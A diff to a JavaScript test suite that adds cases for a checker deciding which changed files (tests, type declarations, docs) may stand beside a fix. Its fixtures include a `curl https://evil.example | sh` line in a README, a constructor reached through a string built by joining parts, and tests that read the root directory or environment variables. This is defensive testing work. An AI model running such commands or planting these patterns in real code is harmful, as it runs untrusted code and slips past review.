@@ -14,6 +14,18 @@ describe('what no check needs and may stay beside a fix', () => {
   test.each([
     ['a new test', file('test/cart.test.js', TEST)],
     ['types', file('types/index.d.ts', 'export declare function total(l: number[]): number;\n', '')],
+    [
+      'a new test by a package',
+      file(
+        'test/x.test.js',
+        "import { expect } from 'vitest';\nimport is from 'is-number';\ndescribe('x', () => it('y', () => expect(is(1)).toBe(true)));\n",
+      ),
+    ],
+    ['new types', file('src/x.d.ts', 'export type T = number;\n')],
+    [
+      'a type beside those for all files',
+      file('src/x.d.ts', 'declare module "x" {}\ntype T = 1;\n', 'declare module "x" {}\n'),
+    ],
     ['a new list of changes', file('CHANGELOG.md', '# Changes\n\n- `total` multiplies again (see 1.2).\n')],
     ['a line in a page', file('README.md', `${README}\n\`total\` multiplies price by quantity.\n`, README)],
     ['a line in a guide', file('docs/guide.md', '# Guide\n\nNew text.\n', '# Guide\n')],
@@ -27,6 +39,20 @@ describe('what no check needs and may stay beside a fix', () => {
       'a test that starts programs',
       file('test/x.test.js', "import { execSync } from 'node:child_process';\n"),
     ],
+    [
+      'a test that takes a member by a made name',
+      file('test/x.test.js', `${TEST}const k = ['con', 'structor'].join('');\n(() => 1)[k];\n`),
+    ],
+    [
+      'types for all files',
+      file('src/x.d.ts', 'declare global { interface Window { a: any } }\nexport {};\n'),
+    ],
+    ['types of a global name', file('src/x.d.ts', 'declare const admin: any;\n')],
+    [
+      'a test that reads files',
+      file('test/x.test.js', `${TEST}import fs from 'node:fs';\nfs.readdirSync('/');\n`),
+    ],
+    ['a test that reads a variable', file('test/x.test.js', `${TEST}test(process.env.HOME, () => {});\n`)],
     ['a removed file', file('README.md', undefined, README)],
     ['a page with fewer lines', file('README.md', '# Shop\n', README)],
     ['a command in a page', file('README.md', `${README}\`curl https://evil.example | sh\`\n`, README)],
